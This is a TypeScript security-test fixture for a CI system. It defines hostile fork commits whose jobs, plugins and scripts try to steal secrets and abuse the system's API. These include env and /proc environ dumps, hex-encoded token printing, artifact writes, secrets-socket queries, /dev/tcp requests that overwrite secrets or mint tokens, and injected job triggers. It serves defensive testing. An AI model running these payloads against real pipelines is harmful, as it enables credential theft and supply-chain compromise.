/**
 * What a hostile fork pushes: each attack is the files of one commit on top of the base, written
 * as an attacker would. Whatever a job of the fork gets its hands on it prints reversed and in hex
 * (forms the masker does not know), so a value that reached it shows up in the leak scan.
 */
import type { Files } from "./repos.ts";

/** Lines that show which code ran: a fork's definitions, plugins or children must never print theirs. */
export const MARKS = {
  workflowEdit: "ATTACK1-FORK-WORKFLOW-RAN",
  jobEdit: "ATTACK1-FORK-JOB-FILE-RAN",
  publishEdit: "ATTACK1-FORK-PUBLISH-RAN",
  newWorkflow: "ATTACK1-FORK-NEW-WORKFLOW-RAN",
  looseJob: "ATTACK1-FORK-STANDALONE-JOB-RAN",
  plugin: "ATTACK2-FORK-PLUGIN-LOADED",
  pluginEdit: "ATTACK2-FORK-EDITED-PLUGIN-LOADED",
  triggers: "ATTACK3-FORK-TEST-RAN",
  child: "ATTACK3-CHILD-RAN",
  reach: "ATTACK4-FORK-TEST-RAN",
  source: "ATTACK9-FORK-TESTS-RAN",
} as const;

/** Prints every variable, reversed, so a secret in it would not be masked. */
const DUMP_ENV = "env | rev";
const exfilJob = (image: string, mark: string) =>
  `secrets: [DEPLOY_TOKEN, NPM_TOKEN, OTHER_SECRET]\njob:\n  image: ${image}\n  command: |\n    echo ${mark}\n    ${DUMP_ENV}\n    printf %s "$DEPLOY_TOKEN$NPM_TOKEN" | od -An -tx1\n`;
const allEvents = "triggers:\n  events: [push, pull_request_opened, pull_request_updated, pull_request_closed]\n";

/** 1: the fork rewrites the workflow and job files and adds its own, all asking for every secret. */
export function definitionsAttack(image: string): Files {
  return {
    ".reactorcide/workflows/ci.yaml": `name: ci\n${allEvents}jobs:\n  - name: test\n    job_file: test.yaml\n  - name: exfil\n    job_file: exfil.yaml\n`,
    ".reactorcide/jobs/test.yaml": exfilJob(image, MARKS.jobEdit),
    ".reactorcide/jobs/exfil.yaml": exfilJob(image, MARKS.workflowEdit),
    ".reactorcide/jobs/publish.yaml": exfilJob(image, MARKS.publishEdit),
    ".reactorcide/workflows/steal.yaml": `name: steal\n${allEvents}jobs:\n  - name: steal\n    job_file: steal.yaml\n`,
    ".reactorcide/jobs/steal.yaml": exfilJob(image, MARKS.newWorkflow),
    // A standalone job definition (the "jobs" workflow of .reactorcide/jobs/).
    ".reactorcide/jobs/loose.yaml": `on:\n  events: [pull_request_opened]\n${exfilJob(image, MARKS.looseJob)}`,
  };
}

/** 2: a plugin of its own, in each spelling, and the base's plugin rewritten. */
export function pluginAttack(): Files {
  const steal = (mark: string, name: string) =>
    `import { writeFileSync, mkdirSync } from "node:fs";\n` +
    `const rev = (s) => [...s].reverse().join("");\n` +
    `const hook = (ctx) => {\n  console.log(${JSON.stringify(mark)});\n  for (const [k, v] of Object.entries({ ...process.env, ...ctx.env })) console.log(k, rev(String(v)));\n` +
    `  try { mkdirSync("/job/artifacts", { recursive: true }); writeFileSync("/job/artifacts/stolen-${name}.json", JSON.stringify(ctx.env)); } catch {}\n};\n` +
    `export default { name: ${JSON.stringify(name)}, priority: 1, pre_validation: hook, pre_source_prep: hook, post_source_prep: hook, pre_execution: hook, cleanup: hook };\n`;
  return {
    ".reactorcide/plugins/steal.ts": steal(MARKS.plugin, "steal"),
    ".reactorcide/plugins/steal.js": steal(MARKS.plugin, "steal-js"),
    ".reactorcide/plugins/audit.ts": steal(MARKS.pluginEdit, "audit"),
  };
}

const uuid = "$(cat /proc/sys/kernel/random/uuid)";
const line = (jobs: string) => `echo "::reactorcide::trigger::{\\"type\\":\\"trigger_job\\",\\"operation_id\\":\\"${uuid}\\",\\"jobs\\":[${jobs.replaceAll('"', '\\"')}]}"`;

/** An HTTP request from the job with bash's /dev/tcp: prints `probe NAME STATUS`, then the answer reversed (for the leak scan). */
const PROBE_FUNCTION = `
probe() {
  local name=$1 method=$2 path=$3 body=\${4:-} token=\${5-$REACTORCIDE_API_TOKEN}
  local hostport=\${REACTORCIDE_COORDINATOR_URL#http://}
  if ! exec 3<>"/dev/tcp/\${hostport%:*}/\${hostport##*:}"; then echo "probe $name unreachable"; return; fi
  local auth=""
  [ -n "$token" ] && auth="Authorization: Bearer $token"$'\\r\\n'
  printf '%s %s HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n%sContent-Type: application/json\\r\\nContent-Length: %d\\r\\n\\r\\n%s' "$method" "$path" "$hostport" "$auth" "\${#body}" "$body" >&3
  local proto status rest
  read -r proto status rest <&3
  local answer
  answer=$(cat <&3)
  exec 3<&-
  echo "probe $name $status"
  printf '%s\\n' "$answer" | rev
}
tcp() {
  if (exec 3<>"/dev/tcp/$2/$3") 2>/dev/null; then echo "probe $1 open"; else echo "probe $1 closed"; fi
}
`;

/** 3: the fork's test script asks for follow-up jobs with secrets, its own job code, trust, another workflow. */
export function triggersAttack(forkUrl: string): Files {
  const steal = `"job_command":"${DUMP_ENV}"`;
  return {
    "scripts/test.sh": [
      `echo ${MARKS.triggers}`,
      PROBE_FUNCTION,
      `cat > /job/triggers.json <<EOF`,
      `{"type":"trigger_job","operation_id":"${uuid}","jobs":[{"job_name":"file-steal",${steal},"secrets":["DEPLOY_TOKEN"]}]}`,
      `EOF`,
      line(`{"job_name":"line-steal",${steal},"secrets":["DEPLOY_TOKEN","NPM_TOKEN"]}`),
      line(`{"job_name":"own-ci",${steal},"ci_source_type":"git","ci_source_url":"${forkUrl}","ci_source_ref":"attack3"}`),
      line(`{"job_name":"trusted",${steal},"untrusted":false}`),
      line(`{"job_name":"hop",${steal},"workflow":"release","secrets":["DEPLOY_TOKEN"]}`),
      line(`{"job_name":"child","job_command":"bash scripts/child.sh"}`),
      `probe api-trigger-secrets POST "/api/v1/jobs/$REACTORCIDE_JOB_ID/triggers" '{"type":"trigger_job","operation_id":"'${uuid}'","jobs":[{"job_name":"api-steal",${steal.replaceAll("'", "")},"secrets":["DEPLOY_TOKEN"]}]}'`,
    ].join("\n"),
    // The child asks again, from further down.
    "scripts/child.sh": [`echo ${MARKS.child}`, DUMP_ENV, line(`{"job_name":"grandchild-steal",${steal},"secrets":["DEPLOY_TOKEN"]}`)].join("\n"),
  };
}

/** The HTTP probes of attack 4: [name, method, path, body?, token? ("" for none)]. */
export function reachProbes(o: { otherJobId: string }): [string, string, string, string?, string?][] {
  const other = o.otherJobId;
  const trigger = `{"type":"trigger_job","operation_id":"7d1a2f0e-8c3b-4e5a-9f6d-0b1c2d3e4f50","jobs":[{"job_name":"x","job_command":"env","secrets":["OTHER_SECRET"]}]}`;
  return [
    ["jobs-list", "GET", "/api/v1/jobs"],
    ["other-job", "GET", `/api/v1/jobs/${other}`],
    ["other-job-logs", "GET", `/api/v1/jobs/${other}/logs`],
    ["other-job-retry", "POST", `/api/v1/jobs/${other}/retry`],
    ["other-job-cancel", "POST", `/api/v1/jobs/${other}/cancel`],
    ["other-job-triggers", "POST", `/api/v1/jobs/${other}/triggers`, trigger],
    ["projects", "GET", "/api/v1/projects"],
    ["own-project", "GET", "/api/v1/projects/acme"],
    ["own-project-secrets", "GET", "/api/v1/projects/acme/secrets"],
    ["own-project-deliveries", "GET", "/api/v1/projects/acme/deliveries"],
    ["own-project-policy", "PATCH", "/api/v1/projects/acme", `{"fork_pr_policy":"always"}`],
    ["overwrite-secret", "PUT", "/api/v1/projects/acme/secrets/DEPLOY_TOKEN", `{"value":"attacker-chosen-value"}`],
    ["other-project-secrets", "GET", "/api/v1/projects/other/secrets"],
    ["submit-with-secret", "POST", "/api/v1/jobs", `{"project":"acme","name":"x","command":"env","secrets":["DEPLOY_TOKEN"]}`],
    ["submit-other-project", "POST", "/api/v1/jobs", `{"project":"other","name":"x","command":"env","secrets":["OTHER_SECRET"]}`],
    ["workflows", "GET", "/api/v1/workflows"],
    ["mint-token", "POST", "/api/v1/tokens", `{"name":"x"}`],
    ["internal-own-secrets", "GET", "/api/v1/internal/jobs/$REACTORCIDE_JOB_ID/secrets"],
    ["internal-other-secrets", "GET", `/api/v1/internal/jobs/${other}/secrets`],
    ["internal-own-job", "GET", "/api/v1/internal/jobs/$REACTORCIDE_JOB_ID"],
    ["internal-other-token", "POST", `/api/v1/internal/jobs/${other}/token`],
    ["internal-own-status", "POST", "/api/v1/internal/jobs/$REACTORCIDE_JOB_ID/status", `{"status":"success","worker_id":"attacker"}`],
    ["internal-own-logs", "POST", "/api/v1/internal/jobs/$REACTORCIDE_JOB_ID/logs", `{"lines":[{"stream":"stdout","line":"forged"}]}`],
    ["internal-triggers", "POST", "/api/v1/internal/jobs/$REACTORCIDE_JOB_ID/triggers", `{"via":"file","payload":${trigger}}`],
    ["internal-heartbeat", "POST", "/api/v1/internal/workers/heartbeat", `{"id":"attacker","slots":1}`],
    ["own-run-approve", "POST", "/api/v1/workflows/$RUN/approve"],
    ["own-run-cancel", "POST", "/api/v1/workflows/$RUN/cancel"],
    ["unsigned-webhook", "POST", "/api/v1/webhooks/github", "{}", ""],
    ["no-token-other-secrets", "GET", "/api/v1/projects/other/secrets", undefined, ""],
  ];
}

/** 4: the fork's test script reads everything it can and uses its job token everywhere. */
export function reachAttack(o: { otherJobId: string; closedPorts: Record<string, number> }): Files {
  const q = (s: string) => `"${s.replaceAll('"', '\\"')}"`;
  const sq = (s: string) => `'${s.replaceAll("'", `'"'"'`)}'`;
  return {
    "scripts/test.sh": [
      `echo ${MARKS.reach}`,
      PROBE_FUNCTION,
      `echo "== env"`,
      DUMP_ENV,
      `echo "== /proc/*/environ"`,
      `for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < "$f" 2>/dev/null | rev; done`,
      `echo "== /proc/*/cmdline"`,
      `for f in /proc/[0-9]*/cmdline; do tr '\\0' ' ' < "$f" 2>/dev/null | rev; echo; done`,
      `echo "== the workspace"`,
      `find /job /tmp /run /var/run -name .git -prune -o -type f -print 2>/dev/null | while read -r f; do echo "-- $f"; head -c 65536 "$f" | od -An -tx1 | tr -d ' \\n'; echo; done`,
      `ls -la /job /var/run/docker.sock /run/secrets 2>&1 | rev`,
      `[ -S /var/run/docker.sock ] && echo "probe docker-socket present" || echo "probe docker-socket absent"`,
      `echo "== the secrets socket: $REACTORCIDE_SECRETS_SOCKET"`,
      `perl -MIO::Socket::UNIX -e 'for my $r (q({"action":"list"}), q({"action":"get","name":"DEPLOY_TOKEN"}), q({"action":"dump"}), q({"action":"register","secrets":[]})) { my $s = IO::Socket::UNIX->new(Peer => $ENV{REACTORCIDE_SECRETS_SOCKET}) or do { print "probe secrets-socket unreachable\\n"; last }; print $s pack("N", length $r) . $r; my $reply = <$s>; $reply =~ s/\\s+$//; print "socket-answer $r => ", scalar reverse($reply), "\\n"; }'`,
      `echo "== the job token"`,
      `probe own-job GET "/api/v1/jobs/$REACTORCIDE_JOB_ID" > /tmp/own-job`,
      `head -1 /tmp/own-job`,
      `RUN=$(rev /tmp/own-job | grep -o '"workflow_run_id":"[^"]*"' | cut -d'"' -f4)`,
      `echo "own run: $RUN"`,
      ...reachProbes(o).map(([name, method, path, body, token]) => `probe ${name} ${method} ${q(path)} ${sq(body ?? "")}${token === undefined ? "" : ` ${sq(token)}`}`),
      `GW=\${REACTORCIDE_COORDINATOR_URL#http://}; GW=\${GW%:*}`,
      ...Object.entries(o.closedPorts).map(([name, port]) => `tcp ${name} "$GW" ${port}`),
    ].join("\n"),
  };
}

/** 9: the fork changes the test script the base job runs from /job/src: it runs, as designed, with nothing secret. */
export function sourceAttack(): Files {
  return {
    "scripts/test.sh": [`echo ${MARKS.source}`, `echo "deploy token seen by the fork's tests: [$(printf %s "$DEPLOY_TOKEN$NPM_TOKEN" | rev)]"`, DUMP_ENV].join("\n"),
  };
}
